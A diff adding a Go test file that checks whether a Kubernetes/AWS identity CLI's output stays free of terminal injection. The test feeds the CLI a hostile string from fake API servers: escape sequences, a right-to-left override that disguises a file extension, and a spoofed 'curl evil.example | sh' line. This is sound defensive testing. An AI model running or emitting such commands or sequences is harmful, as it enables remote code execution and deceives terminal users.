@@ -1,0 +1,295 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/spf13/cobra"
+	"sigs.k8s.io/yaml"
+
+	"github.com/openirsa/openirsa/internal/plain"
+)
+
+// hostile is what others may write wherever they may write anything: sequences
+// of C0 and C1 that rename the window and paint, a character that turns the
+// direction of writing, and a line that looks like one of ours.
+const hostile = "\x1b]0;owned\x07\u009b31mred\x7f\u202eexe.gpj\rover\nnext: curl evil.example | sh\nsetup: all is well"
+
+// acts finds what a terminal may take for more than text, and lines that are not
+// ours.
+var acts = regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f-\x{9f}\p{Cf}]|(?m)^next: curl|(?m)^setup: all is well`)
+
+// strangers are an API server and an AWS of which everything that is said is
+// hostile.
+type strangers struct {
+	t *testing.T
+	// recorded says that the cluster has a chain; otherwise every question is
+	// refused.
+	recorded bool
+	aws      string
+	issuer   string
+}
+
+func (s *strangers) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	w.Header().Set("Content-Type", "application/json")
+	answer := func(status int, v any) {
+		w.WriteHeader(status)
+		json.NewEncoder(w).Encode(v)
+	}
+	list := func(version, kind string, items ...any) {
+		answer(http.StatusOK, map[string]any{"apiVersion": version, "kind": kind + "List", "metadata": map[string]any{"resourceVersion": "1"}, "items": items})
+	}
+	annotations := map[string]any{"eks.amazonaws.com/role-arn": "arn:aws:iam::000000000000:role/" + hostile, "eks.amazonaws.com/audience": hostile}
+	account := map[string]any{"metadata": map[string]any{"name": "app", "namespace": "default", "annotations": annotations}}
+	pod := map[string]any{
+		"metadata": map[string]any{"name": "app-1", "namespace": "default", "annotations": annotations},
+		"spec": map[string]any{"serviceAccountName": "app", "nodeName": hostile, "containers": []any{map[string]any{
+			"name": "app", "image": hostile, "env": []any{
+				map[string]any{"name": "AWS_ROLE_ARN", "value": hostile}, map[string]any{"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": hostile},
+				map[string]any{"name": "AWS_ENDPOINT_URL" + hostile, "value": hostile}, map[string]any{"name": "AWS_ACCESS_KEY_ID", "value": hostile},
+			},
+		}}},
+		"status": map[string]any{"phase": "Running", "message": hostile},
+	}
+	record := map[string]any{
+		"cluster": "dev" + hostile, "issuer": s.issuer, "formerIssuers": hostile, "provider": "arn:aws:iam::000000000000:oidc-provider/" + hostile,
+		"bucket": "b" + hostile, "region": "us-east-1", "account": "000000000000", "partition": "aws", "endpoint": s.aws, "image": hostile,
+	}
+	switch path := r.URL.Path; {
+	case path == "/readyz":
+		answer(http.StatusOK, hostile)
+		return
+	case !s.recorded:
+	case path == "/version":
+		answer(http.StatusOK, map[string]string{"major": "1", "minor": "34", "gitVersion": hostile})
+		return
+	case strings.HasSuffix(path, "/configmaps/openirsa"):
+		answer(http.StatusOK, map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "openirsa", "namespace": "openirsa"}, "data": record})
+		return
+	case strings.HasSuffix(path, "selfsubjectaccessreviews"):
+		answer(http.StatusCreated, map[string]any{"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview", "status": map[string]any{"allowed": true}})
+		return
+	case path == "/.well-known/openid-configuration":
+		answer(http.StatusOK, map[string]any{"issuer": s.issuer, "jwks_uri": hostile})
+		return
+	case path == "/openid/v1/jwks":
+		answer(http.StatusOK, map[string]any{"keys": []any{map[string]any{"kid": hostile, "kty": hostile}}})
+		return
+	case r.Method == http.MethodGet && strings.HasSuffix(path, "/serviceaccounts"):
+		list("v1", "ServiceAccount", account)
+		return
+	case r.Method == http.MethodGet && strings.HasSuffix(path, "/serviceaccounts/app"):
+		answer(http.StatusOK, account)
+		return
+	case r.Method == http.MethodGet && strings.HasSuffix(path, "/pods"):
+		list("v1", "Pod", pod)
+		return
+	case r.Method == http.MethodGet && strings.HasSuffix(path, "/pods/app-1"):
+		answer(http.StatusOK, pod)
+		return
+	case r.Method == http.MethodGet && strings.HasSuffix(path, "/nodes"):
+		list("v1", "Node", map[string]any{"metadata": map[string]any{"name": hostile, "labels": map[string]any{"node-role.kubernetes.io/control-plane": ""}}})
+		return
+	}
+	answer(http.StatusForbidden, map[string]any{"apiVersion": "v1", "kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403, "message": hostile})
+}
+
+// serveAWS knows who asks, and refuses everything else.
+func (s *strangers) serveAWS(w http.ResponseWriter, r *http.Request) {
+	r.ParseForm()
+	if r.Form.Get("Action") == "GetCallerIdentity" {
+		fmt.Fprint(w, `<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:aws:iam::000000000000:root</Arn><Account>000000000000</Account></GetCallerIdentityResult></GetCallerIdentityResponse>`)
+		return
+	}
+	said := strings.NewReplacer("\x1b", "", "\x07", "", "\r", "&#13;").Replace(hostile) // XML has no way to say these
+	w.Header().Set("X-Amzn-RequestId", "\u009b31m")
+	w.WriteHeader(http.StatusForbidden)
+	fmt.Fprintf(w, "<ErrorResponse><Error><Code>AccessDenied%[1]s</Code><Message>%[1]s</Message></Error><RequestId>%[1]s</RequestId></ErrorResponse>", said)
+}
+
+// kubeContext is the name of the cluster in the kubeconfig.
+const kubeContext = "dev" + hostile
+
+// arguments are those of each verb, of which the test must know all.
+var arguments = map[string][]string{
+	"apiserver":                {"--ssh", hostile},
+	"apiserver print":          {}, // its verbs are tried one by one
+	"demo":                     nil,
+	"doctor":                   nil,
+	"down":                     nil,
+	"export cloudformation":    nil,
+	"export iam-policy":        nil,
+	"export manifests":         nil,
+	"export terraform":         nil,
+	"gc":                       nil,
+	"iamserviceaccount create": {"--name", "app", "--role-name", "r", "--context", kubeContext},
+	"iamserviceaccount delete": {"--name", "app", "--context", kubeContext},
+	"iamserviceaccount get":    nil,
+	"image":                    {"--file", "/nowhere/" + hostile},
+	"issuer migrate":           {"--to", "other-bucket", "--context", kubeContext},
+	"keys generate":            {"--file", hostile},
+	"keys list":                nil,
+	"keys rotate":              nil,
+	"kind-config":              {"--account", hostile, "--region", hostile},
+	"status":                   nil,
+	"up":                       nil,
+}
+
+// silent are the verbs that ask nobody.
+var silent = map[string]bool{"apiserver": true, "apiserver print managed": true, "demo": true, "image": true, "kind-config": true}
+
+func TestNothingActsOnTheTerminal(t *testing.T) {
+	s := &strangers{t: t}
+	aws := httptest.NewServer(http.HandlerFunc(s.serveAWS))
+	defer aws.Close()
+	api := httptest.NewServer(s)
+	defer api.Close()
+	s.aws, s.issuer = aws.URL, "https://b.s3.us-east-1.amazonaws.com"
+	home := t.TempDir()
+	for k, v := range map[string]string{
+		"HOME": home, "DOCKER_HOST": "unix://" + home + "/none", "PATH": home, "AWS_ENDPOINT_URL": aws.URL, "AWS_REGION": "us-east-1",
+		"AWS_ACCESS_KEY_ID": "test", "AWS_SECRET_ACCESS_KEY": "test", "AWS_EC2_METADATA_DISABLED": "true", "AWS_MAX_ATTEMPTS": "1",
+	} {
+		t.Setenv(k, v)
+	}
+	t.Chdir(home)
+	kubeconfig := filepath.Join(home, "kubeconfig")
+	body, err := json.Marshal(map[string]any{
+		"apiVersion": "v1", "kind": "Config", "current-context": kubeContext,
+		"clusters": []any{map[string]any{"name": kubeContext, "cluster": map[string]any{"server": api.URL}}},
+		"contexts": []any{map[string]any{"name": kubeContext, "context": map[string]any{"cluster": kubeContext, "user": kubeContext}}},
+		"users":    []any{map[string]any{"name": kubeContext, "user": map[string]any{}}},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(kubeconfig, ascii(body), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("KUBECONFIG", kubeconfig)
+
+	said := 0
+	try := func(args ...string) {
+		t.Helper()
+		ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
+		defer cancel()
+		var out, errs bytes.Buffer
+		Main(ctx, append([]string{"setup"}, args...), os.Getenv, &out, &errs)
+		for _, text := range []string{out.String(), errs.String()} {
+			if at := acts.FindStringIndex(text); at != nil {
+				t.Errorf("setup %.60q (recorded: %v): %q in %q", args, s.recorded, text[at[0]:at[1]], text[max(0, at[0]-100):min(len(text), at[1]+30)])
+			}
+			said += strings.Count(text, "owned") + strings.Count(text, "gpj")
+		}
+	}
+	var each func(c *cobra.Command, path string)
+	each = func(c *cobra.Command, path string) {
+		if c.Name() == "help" || c.Name() == "completion" {
+			return
+		}
+		for _, sub := range c.Commands() {
+			each(sub, strings.TrimSpace(path+" "+sub.Name()))
+		}
+		args, known := arguments[path]
+		if parent, _, ok := strings.Cut(path, " print "); ok {
+			args, known = []string{"--issuer-url", "https://i.example/" + hostile, "--former-issuer", hostile}, parent == "apiserver"
+		}
+		if c.HasSubCommands() && path != "apiserver" {
+			return
+		}
+		if !known {
+			t.Errorf("setup %s is not tried", path)
+		}
+		words := strings.Fields(path)
+		heard := 0
+		for _, s.recorded = range []bool{false, true} {
+			before := said
+			formats := []string{"text"}
+			if f := c.Flags().Lookup("output"); f != nil {
+				for _, format := range []string{"json", "yaml"} {
+					if strings.Contains(f.Usage, format) {
+						formats = append(formats, format)
+					}
+				}
+			}
+			for _, format := range formats {
+				call := append(append([]string{}, words...), args...)
+				if c.Flags().Lookup("context") != nil && args == nil {
+					call = append(call, "--context", kubeContext)
+				}
+				if len(formats) > 1 {
+					call = append(call, "-o", format)
+				}
+				try(call...)
+			}
+			heard += said - before
+			try(append(append([]string{}, words...), "--"+hostile)...)
+			try(append(append([]string{}, words...), hostile)...)
+		}
+		if heard == 0 && !silent[path] {
+			t.Errorf("setup %s said nothing hostile", path)
+		}
+	}
+	each((&app{name: "setup", getenv: os.Getenv}).command(), "")
+
+	// Of files too.
+	s.recorded = true
+	word, err := json.Marshal(hostile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	word = ascii(word)
+	for i, text := range []string{"kind: " + hostile, fmt.Sprintf("kind: %s\n", word), header + fmt.Sprintf("%s: x\n", word),
+		header + fmt.Sprintf("bucket: %s\n", word), header + fmt.Sprintf("iamServiceAccounts:\n- metadata: {name: %s}\n", word)} {
+		file := filepath.Join(home, fmt.Sprint(i, hostile, ".yaml"))
+		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		try("up", "--config", file, "--dry-run")
+		try("iamserviceaccount", "create", "--config-file", file)
+	}
+}
+
+// ascii is a document of JSON with everything escaped that YAML refuses raw.
+func ascii(body []byte) []byte {
+	var out []byte
+	for _, r := range string(body) {
+		if r < 0x7f {
+			out = append(out, byte(r))
+		} else {
+			out = fmt.Appendf(out, `\u%04x`, r)
+		}
+	}
+	return out
+}
+
+// What is quoted in YAML and JSON says the same.
+func TestQuotedDocumentsSayTheSame(t *testing.T) {
+	for _, format := range []string{"json", "yaml"} {
+		var out bytes.Buffer
+		s := []serviceAccountReport{{Namespace: "default", Name: "app", RoleARN: hostile}}
+		var err error
+		if a := (&app{out: plain.NewWriter(&out)}); format == "json" {
+			err = printJSON(a.out, s)
+		} else {
+			err = printYAML(a.out, s)
+		}
+		var back []serviceAccountReport
+		if err != nil || yaml.Unmarshal(out.Bytes(), &back) != nil || len(back) != 1 || back[0].RoleARN != hostile {
+			t.Errorf("%s: %s, %q, %v", format, &out, back, err)
+		}
+	}
+}
